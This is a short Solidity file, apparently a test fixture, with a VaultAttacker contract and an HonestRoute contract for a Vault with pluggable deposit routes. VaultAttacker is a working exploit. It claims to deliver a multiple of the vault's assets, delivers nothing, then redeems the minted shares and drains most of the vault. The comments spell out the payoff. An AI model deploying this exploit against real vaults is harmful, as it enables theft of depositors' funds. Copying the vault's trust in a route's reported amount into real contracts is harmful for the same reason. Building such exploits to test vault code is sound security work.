// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IDepositRoute, Vault} from "./Vault.sol";

/// @notice Attacks any Vault: claims to have delivered `multiple` times its assets, delivers nothing, redeems the shares, and so
/// takes multiple / (multiple + 1) of the vault. Needs no means. Keeps the loot at its own address.
/// On a paused vault it reverts with EnforcedPause().
contract VaultAttacker is IDepositRoute {
    event Looted(address indexed vault, uint256 amount);

    function attack(Vault vault, uint256 multiple) external returns (uint256 loot) {
        uint256 shares = vault.depositVia(this, vault.totalAssets() * multiple, address(this));
        loot = vault.redeem(shares, address(this), address(this));
        emit Looted(address(vault), loot);
    }

    function deliver(address, uint256 amount) external pure returns (uint256) {
        return amount;
    }
}

/// @notice An honest route for benign traffic: takes the tokens from whoever funded it by transfer and brings them to the vault.
contract HonestRoute is IDepositRoute {
    function deliver(address asset, uint256 amount) external returns (uint256) {
        require(IERC20(asset).transfer(msg.sender, amount));
        return amount;
    }
}
